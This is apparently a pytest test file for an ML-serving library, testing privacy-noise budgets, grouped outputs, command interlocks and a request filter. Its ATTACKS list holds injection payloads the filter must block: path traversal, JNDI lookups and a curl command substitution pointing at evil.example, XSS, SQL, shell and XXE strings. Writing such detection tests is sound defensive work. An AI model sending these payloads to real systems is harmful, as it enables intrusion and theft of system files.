"""Noise under a budget, groups instead of rows, fewer classes, commands within bounds, and clean requests."""

import json
import math
import random
from collections import Counter
from dataclasses import replace
from datetime import timedelta
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.core.artifact import digest_bytes
from holdfast.core.errors import InvalidInput
from holdfast.core.guard import Answer, Call, Chain, Refusal
from holdfast.core.schema import Field, Signature
from holdfast.maths.discrete_noise import bernoulli_exp, discrete_laplace, randomised_response
from holdfast.serve.credentials import CredentialTable
from holdfast.serve.guards.commands import Interlock, WithinBoundsSettings, within_bounds
from holdfast.serve.guards.hygiene import CleanRequestSettings, clean_request, found
from holdfast.serve.guards.outputs import CoarseOutputSettings, coarse_output
from holdfast.serve.guards.privacy import (
    GroupedOutputSettings,
    NoisedOutputSettings,
    grouped_output,
    noised_output,
)
from holdfast.serve.guards.strangeness import SqueezedInputSettings, squeezed_input
from holdfast.serve.guards.surroundings import LocalCells, LocalNonces, Surroundings
from holdfast.testing import SettableClock

RELEASE = digest_bytes(b"release")
SIGNATURE = Signature(inputs=(Field(name="speed"), Field(name="distance")), classes=("stop", "slow", "fast"))


class Place:
    """What guards are built into: one clock, one memory, and what they tell."""

    def __init__(self) -> None:
        self.clock, self.told = SettableClock(), list[tuple[str, str, str]]()
        self.surroundings = Surroundings(
            credentials=CredentialTable(bytes(32), ()),
            signatures={RELEASE: SIGNATURE},
            cells=LocalCells(),
            nonces=LocalNonces(since=0.0),
            clock=self.clock,
            monotonic=lambda: self.clock.now().timestamp(),
            tell=lambda kind, client, detail, _: self.told.append((kind, client, detail)),
        )


@pytest.fixture
def place() -> Place:
    """A clock and a memory."""
    return Place()


def call(rows: Any = ((1.0, 2.0),), client: str = "bob") -> Call:
    """A valid call."""
    data = np.array(rows, dtype=np.float32)
    return Call(
        model="m", headers={}, body=b"", correlation="c", received_s=0.0, client=client, rows=data, release=RELEASE
    )


def answer(*probabilities: tuple[float, ...]) -> Answer:
    """What a model said."""
    array = np.array(probabilities, dtype=np.float64)
    return Answer(probabilities=array, labels=array.argmax(axis=1))


def chi_square(counts: Counter[int], expected: dict[int, float], total: int) -> float:
    """Pearson's statistic over the cells that hold enough."""
    return sum((counts[value] - total * p) ** 2 / (total * p) for value, p in expected.items() if total * p > 20)


@pytest.mark.requirement("GATE-07", by="holdfast.maths.discrete_noise:discrete_laplace")
@pytest.mark.guarantee("G81")
def test_noise_has_exactly_the_distribution_that_the_proof_needs() -> None:
    """Two-sided geometric, from a known seed: against its own probabilities, and never heavier in one tail."""
    below, total = random.Random(7).randrange, 20_000  # noqa: S311 - from a known seed
    counts = Counter(discrete_laplace(3, (3, 2), below) for _ in range(total))
    q = math.exp(-1.5 / 3)
    expected = {x: (1 - q) / (1 + q) * q ** abs(x) for x in range(-12, 13)}
    assert chi_square(counts, expected, total) < 60  # 25 cells; at 24 degrees of freedom, 60 is beyond 1 in 10,000
    assert abs(sum(x * n for x, n in counts.items())) / total < 0.1


def test_an_exponential_coin_and_randomised_response_have_their_odds() -> None:
    """exp(-γ), also above 1; and each other answer exp(-ε) times as likely as the true one."""
    below, total = random.Random(11).randrange, 20_000  # noqa: S311 - from a known seed
    for numerator, denominator in ((1, 2), (7, 3)):
        share = sum(bernoulli_exp(numerator, denominator, below) for _ in range(total)) / total
        assert share == pytest.approx(math.exp(-numerator / denominator), abs=0.012)
    told = Counter(randomised_response(1, 4, (2, 1), below) for _ in range(total))
    whole = math.exp(2) + 3
    assert chi_square(told, {0: 1 / whole, 1: math.exp(2) / whole, 2: 1 / whole, 3: 1 / whole}, total) < 20


@given(
    first=st.lists(st.floats(0, 1), min_size=3, max_size=3),
    second=st.lists(st.floats(-2, 2), min_size=3, max_size=3),
)
def test_no_two_answers_are_farther_apart_than_the_noise_supposes(first: list[float], second: list[float]) -> None:
    """Whatever a model says, also what is no probability: on the grid the distance is at most the sensitivity."""
    settings = NoisedOutputSettings(epsilon=1.0, budget=9.0, answer="probabilities")
    guard, sensitivities, grids = noised_output(settings, Place().surroundings), [], []

    def none(sensitivity: int, *_: Any) -> int:
        sensitivities.append(sensitivity)
        return 0

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("holdfast.serve.guards.privacy.discrete_laplace", none)
        for probabilities in (first, second):
            told = guard.release(call(), Answer(probabilities=np.array([probabilities]), labels=np.array([0])))
            assert isinstance(told, Answer)
            grids.append(np.rint(told.probabilities * 1000))
    assert np.abs(grids[0] - grids[1]).sum() <= min(sensitivities)


@pytest.mark.requirement("GATE-07", by="holdfast.serve.guards.privacy:NoisedOutput.admit")
@pytest.mark.guarantee("G81")
def test_a_client_whose_privacy_budget_is_spent_is_refused_and_the_spending_is_on_record(place: Place) -> None:
    """Ten answers of ε = 0.5 under a budget of 5: the eleventh row gets none, whoever else still has some."""
    guard = noised_output(NoisedOutputSettings(epsilon=0.5, budget=5.0, budget_all=6.0), place.surroundings)
    for _ in range(5):
        assert isinstance(guard.admit(call(((1.0, 2.0), (3.0, 4.0)))), Call)
    refused = guard.admit(call())
    assert isinstance(refused, Refusal)
    assert (refused.status, refused.code) == (403, "HF263")
    assert place.told[-1] == ("privacy.spent", "bob", "ε = 5 of 5")
    assert isinstance(guard.admit(call(client="carol")), Call)
    assert isinstance(guard.admit(call(client="carol")), Call)
    assert isinstance(guard.admit(call(client="carol")), Refusal)  # all clients together have 6
    place.clock.advance(timedelta(days=4000))
    assert isinstance(guard.admit(call()), Refusal)


@pytest.mark.requirement("GATE-07", by="holdfast.serve.guards.privacy:NoisedOutput.release")
def test_what_is_told_is_noised_and_says_so() -> None:
    """Labels differ from the true one about as often as they must; no probability goes with them."""
    guard = noised_output(NoisedOutputSettings(epsilon=1.0, budget=1e6), Place().surroundings)
    object.__setattr__(guard, "below", random.Random(3).randrange)  # noqa: S311 - from a known seed
    labels = Counter[int]()
    for _ in range(3000):
        told = guard.release(call(), answer((0.0, 0.1, 0.9)))
        assert isinstance(told, Answer)
        assert told.probabilities.shape == (1, 0)
        assert told.flags == ("noised",)
        labels[int(told.labels[0])] += 1
    assert labels[2] / 3000 == pytest.approx(math.e / (math.e + 2), abs=0.04)


@pytest.mark.requirement("GATE-08", by="holdfast.serve.guards.privacy:GroupedOutput.admit")
def test_only_groups_are_answered_and_rows_do_not_count_twice(place: Place) -> None:
    """Three different rows at least; copies of one row are one, and so is minus zero."""
    guard = grouped_output(GroupedOutputSettings(smallest=3), place.surroundings)
    for rows in ([(1, 2)], [(1, 2)] * 9, [(1, 2), (0.0, 1), (-0.0, 1)], [(1, 2), (3, 4)]):
        refused = guard.admit(call(rows))
        assert isinstance(refused, Refusal)
        assert refused.code == "HF264"
    assert isinstance(guard.admit(call([(1, 2), (3, 4), (5, 6)])), Call)


@pytest.mark.requirement("GATE-08", by="holdfast.serve.guards.privacy:GroupedOutput.release")
def test_the_answer_is_about_the_group_and_about_no_row(place: Place) -> None:
    """One mean, and the label of most."""
    guard = grouped_output(GroupedOutputSettings(smallest=2), place.surroundings)
    told = guard.release(call(), answer((0.8, 0.2, 0.0), (0.0, 0.9, 0.1), (0.1, 0.6, 0.3)))
    assert isinstance(told, Answer)
    assert told.labels.tolist() == [1]
    assert told.probabilities == pytest.approx(np.array([[0.3, 1.7 / 3, 0.4 / 3]]))
    assert told.flags == ("group",)


@pytest.mark.requirement("GATE-08", by="holdfast.serve.guards.privacy:GroupedOutput._apart")
def test_two_groups_that_differ_in_one_row_are_not_both_answered(place: Place) -> None:
    """The difference of the two answers would be the answer about that row."""
    guard = grouped_output(GroupedOutputSettings(smallest=2, apart_s=3600.0), place.surroundings)
    assert isinstance(guard.admit(call([(1, 2), (3, 4)])), Call)
    assert isinstance(guard.admit(call([(1, 2), (3, 4), (5, 6)])), Refusal)
    assert isinstance(guard.admit(call([(1, 2), (3, 4), (5, 6)], client="carol")), Call)
    place.clock.advance(timedelta(hours=2))
    assert isinstance(guard.admit(call([(1, 2), (3, 4), (7, 8)])), Call)


def test_noise_for_rows_of_a_group_needs_the_group(place: Place) -> None:
    """Alone it would be calibrated for something that did not happen; with it, less noise does."""
    settings = NoisedOutputSettings(epsilon=1.0, budget=10.0, answer="probabilities", protects="rows")
    noise = noised_output(settings, place.surroundings)
    alone = noise.release(call([(1, 2), (3, 4)]), answer((0.5, 0.5, 0.0), (0.5, 0.5, 0.0)))
    assert isinstance(alone, Refusal)
    chain = Chain((noise, grouped_output(GroupedOutputSettings(smallest=2), place.surroundings)))
    admitted = chain.admit(call([(1, 2), (3, 4)]))
    assert isinstance(admitted, Call)
    told = chain.release(admitted, answer((0.5, 0.5, 0.0), (0.5, 0.5, 0.0)))
    assert isinstance(told, Answer)
    assert told.flags == ("group", "noised")
    assert place.surroundings.cells.read("epsilon\0bob")[2] == 1.0


@pytest.mark.requirement("GATE-06", by="holdfast.serve.guards.outputs:_keep")
def test_only_the_most_probable_classes_are_told(place: Place) -> None:
    """The rest is told as nothing; of equal ones the first class stays."""
    guard = coarse_output(CoarseOutputSettings(decimals=1, top=1), place.surroundings)
    told = guard.release(call(), answer((0.31, 0.42, 0.27), (0.4, 0.2, 0.4)))
    assert isinstance(told, Answer)
    assert told.probabilities.tolist() == [[0.0, 0.4, 0.0], [0.4, 0.0, 0.0]]


BOUNDS: dict[str, Any] = {"values": {"stop": 0.0, "slow": 10.0, "fast": 50.0}, "lowest": 0.0, "highest": 50.0}
STOP, SLOW, FAST = (1.0, 0.0, 0.0), (0.2, 0.6, 0.2), (0.1, 0.1, 0.8)


@pytest.mark.requirement("GATE-17", by="holdfast.serve.guards.commands:WithinBounds._why_not")
def test_a_command_out_of_bounds_unsure_or_forbidden_becomes_the_safe_one(place: Place) -> None:
    """Physical bounds, certainty, and an interlock on the inputs; each alone is enough, and the answer says so."""
    near = Interlock(never=("fast", "slow"), input="distance", below=5.0)
    cases: list[tuple[dict[str, Any], tuple[float, ...], tuple[float, float], int]] = [
        ({}, FAST, (1.0, 90.0), 2),
        ({"highest": 20.0}, FAST, (1.0, 90.0), 0),
        ({"least_probability": 0.7}, SLOW, (1.0, 90.0), 0),
        ({"interlocks": (near,)}, SLOW, (1.0, 4.0), 0),
        ({"interlocks": (near,)}, SLOW, (1.0, 6.0), 1),
    ]
    for changes, said, row, expected in cases:
        guard = within_bounds(WithinBoundsSettings(safe="stop", **(BOUNDS | changes)), place.surroundings)
        told = guard.release(call((row,)), answer(said))
        assert isinstance(told, Answer)
        assert (told.labels.tolist(), told.flags) == ([expected], ("safe-command",) if expected == 0 else ())
        strict = within_bounds(WithinBoundsSettings(**(BOUNDS | changes)), place.surroundings)
        assert isinstance(strict.release(call((row,)), answer(said)), Refusal if expected == 0 else Answer)


@pytest.mark.requirement("GATE-17", by="holdfast.serve.guards.commands:Change.charge")
def test_a_command_changes_no_faster_than_what_it_drives_can_follow(place: Place) -> None:
    """From 10 to 50 at 20 a second takes two seconds; what was issued instead counts as the last command."""
    guard = within_bounds(WithinBoundsSettings(safe="stop", change_per_s=20.0, **BOUNDS), place.surroundings)

    def issued(said: tuple[float, ...]) -> int:
        told = guard.release(call(), answer(said))
        assert isinstance(told, Answer)
        return int(told.labels[0])

    assert issued(SLOW) == 1
    place.clock.advance(timedelta(seconds=1))
    assert issued(FAST) == 0
    place.clock.advance(timedelta(seconds=1))
    assert issued(SLOW) == 1
    place.clock.advance(timedelta(seconds=2))
    assert issued(FAST) == 2
    two = guard.admit(call(((1.0, 2.0), (3.0, 4.0))))
    assert isinstance(two, Refusal)


@pytest.mark.parametrize(
    "changes",
    [
        {"values": {"stop": 0.0}},
        {"lowest": 60.0},
        {"highest": math.nan},
        {"safe": "nothing"},
        {"safe": "fast", "highest": 20.0},
        {"change_per_s": -1.0},
        {"interlocks": (Interlock(never=("fast",), input="height", above=1.0),)},
        {"interlocks": (Interlock(never=("fast",), input="speed"),)},
        {"interlocks": (Interlock(never=(), input="speed", above=1.0),)},
    ],
    ids=[
        "a class without a value",
        "empty",
        "nan",
        "no such safe",
        "unsafe safe",
        "negative",
        "input",
        "bound",
        "class",
    ],
)
def test_bounds_that_mean_nothing_are_refused(changes: dict[str, Any], place: Place) -> None:
    """They would look like a control and be none."""
    with pytest.raises(InvalidInput):
        within_bounds(WithinBoundsSettings(**(BOUNDS | changes)), place.surroundings)


def request(*headers: tuple[bytes, bytes], body: bytes = b"{}", query: bytes = b"") -> Call:
    """A call as it came in."""
    return Call(model="m", headers={}, body=body, correlation="c", received_s=0.0, raw=headers, query=query)


ATTACKS = (
    b"../../../../etc/passwd",
    b"..%2f..%2f..%2fetc%2fpasswd",
    b"%2e%2e/%2e%2e/%2e%2e/boot.ini",
    b"${jndi:ldap://evil.example/a}",
    b"${${lower:j}ndi:rmi://evil.example/a}",
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    b"javascript:alert(document.cookie)//;",
    b"' OR '1'='1",
    b"' or 1=1 -- ",
    b"1; DROP TABLE users",
    b"x' UNION SELECT password FROM users --",
    b"1' AND SLEEP(5)--",
    b"; cat /etc/passwd",
    b"| whoami;",
    b"$(curl http://evil.example/x)",
    b"{{7*7}}<",
    b"{{config.items()}}'",
    b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    b"name%00.txt",
)
HONEST = (
    b'{"inputs":[{"name":"input","shape":[1,3],"datatype":"FP64","data":[50,-15.5,1e-3]}],"id":"call-7"}',
    b'{"rows":[{"age":50,"mean radius":15,"price ($)":3.5}]}',
    b'{"rows":[{"select":1,"from":2,"union":3,"it\'s":4}]}',
    b'{"id":"O\'Brien & sons; batch 7 -- second try","inputs":[]}',
    b'{"id":"50% off <b>sale</b>","inputs":[]}',
    b'{"id":"C:\\\\data\\\\cat\\\\1.csv","inputs":[]}',
    b'{"id":"https://example.org/a?b=c%20d&ls=1","inputs":[]}',
    b'{"text":"Please select a plan from the list, then drop me a line; sleep well! 1 < 2 and 3 > 2"}',
    b'{"text":"Use {{name}} in the template; costs are ${amount} or 5$"}',
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    b"python-requests/2.32 (id 5; sh)",
    b'W/"etag-1"; q=0.8, text/html;level=1, */*;q=0.1',
)


@pytest.mark.requirement("GATE-14", by="holdfast.serve.guards.hygiene:found")
@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_what_an_attack_must_contain_is_found(number: int, place: Place) -> None:
    """In a header's value and in the body."""
    guard = clean_request(CleanRequestSettings(), place.surroundings)
    body = b'{"id":"' + ATTACKS[number] + b'"}'
    for tried in (request((b"user-agent", ATTACKS[number])), request(body=body)):
        refused = guard.admit(tried)
        assert isinstance(refused, Refusal)
        assert (refused.status, refused.public) == (400, "the request is not acceptable")


@pytest.mark.parametrize("number", range(len(HONEST)))
def test_what_people_write_passes(number: int, place: Place) -> None:
    """Apostrophes, percent signs, words of SQL and of the shell, angle brackets, templates."""
    assert found(HONEST[number]) == ""
    guard = clean_request(CleanRequestSettings(), place.surroundings)
    assert isinstance(guard.admit(request((b"user-agent", HONEST[number]), body=HONEST[number])), Call)


@given(st.lists(st.dictionaries(st.sampled_from(["a", "mean radius"]), st.floats(allow_nan=False)), max_size=20))
def test_no_request_of_numbers_is_ever_taken_for_an_attack(rows: list[dict[str, float]]) -> None:
    """Whatever the numbers."""
    assert found(json.dumps({"rows": rows}).encode()) == ""


def test_a_form_of_another_site_is_refused_where_a_certificate_would_do_for_a_key(place: Place) -> None:
    """A page can have a browser send it, certificate and all; with a key in a header it cannot."""
    guard = clean_request(CleanRequestSettings(), place.surroundings)
    tried = request((b"content-type", b"application/x-www-form-urlencoded"))
    assert isinstance(guard.admit(tried), Call)
    tried.certificate = b"DER"
    refused = guard.admit(tried)
    assert isinstance(refused, Refusal)
    assert refused.detail == "rule form"
    assert "send Content-Type: application/json" in refused.public


@pytest.mark.parametrize("kind", [b"text/xml", b"image/png"], ids=["xml", "png"])
def test_a_refused_content_type_comes_with_the_one_to_send(kind: bytes, place: Place) -> None:
    """Whoever has forgotten a header learns which."""
    refused = clean_request(CleanRequestSettings(), place.surroundings).admit(request((b"content-type", kind)))
    assert isinstance(refused, Refusal)
    assert "send Content-Type: application/json" in refused.public


@pytest.mark.requirement("GATE-14", by="holdfast.serve.guards.hygiene:CleanRequest.admit")
@pytest.mark.parametrize(
    ("tried", "rule"),
    [
        (request(query=b"debug=1"), "query"),
        (request(*((b"x-%d" % number, b"1") for number in range(65))), "headers"),
        (request((b"host", b"a.example"), (b"host", b"b.example")), "host"),
        (request((b"host", b"evil.example")), "host"),
        (request((b"host", b"api.example"), (b"x-http-method-override", b"DELETE")), "override"),
        (request((b"host", b"api.example"), (b"content-type", b"text/xml")), "content-type"),
        (request((b"host", b"api.example"), (b"user-agent", b"a\x08b")), "control"),
        (request(), "host"),
    ],
    ids=["query", "many", "two hosts", "another host", "override", "xml", "control", "no host"],
)
def test_a_request_with_tricks_is_refused(tried: Call, rule: str, place: Place) -> None:
    """Each by a rule that the record names."""
    guard = clean_request(CleanRequestSettings(hosts=("api.example",)), place.surroundings)
    refused = guard.admit(tried)
    assert isinstance(refused, Refusal)
    assert refused.detail == f"rule {rule}"
    assert isinstance(
        guard.admit(request((b"host", b"API.example:8443"), (b"content-type", b"application/json"))), Call
    )


@pytest.mark.requirement("GATE-17", by="holdfast.serve.guards.commands:WithinBounds.release")
def test_an_interlock_holds_the_input_that_came_whatever_the_model_is_shown(place: Place) -> None:
    """A distance of 4.4 is below 5, although it is squeezed to 5 for the model."""
    signature = Signature(
        inputs=(Field(name="speed"), Field(name="distance", minimum=0.0, maximum=10.0)),
        classes=("stop", "slow", "fast"),
    )
    lock = Interlock(never=("slow", "fast"), input="distance", below=5.0)
    settings = WithinBoundsSettings(
        values={"stop": 0.0, "slow": 1.0, "fast": 2.0}, lowest=0.0, highest=2.0, interlocks=(lock,), safe="stop"
    )
    place.surroundings = replace(place.surroundings, signatures={RELEASE: signature})
    squeezed = squeezed_input(SqueezedInputSettings(levels=3), place.surroundings)
    chain = Chain((squeezed, within_bounds(settings, place.surroundings)))
    asked = chain.admit(call(((1.0, 4.4),)))
    assert isinstance(asked, Call)
    assert asked.rows is not None
    assert asked.rows[0, 1] == 5.0
    said = chain.release(asked, answer((0.0, 0.1, 0.9)))
    assert isinstance(said, Answer)
    assert said.labels.tolist() == [0]
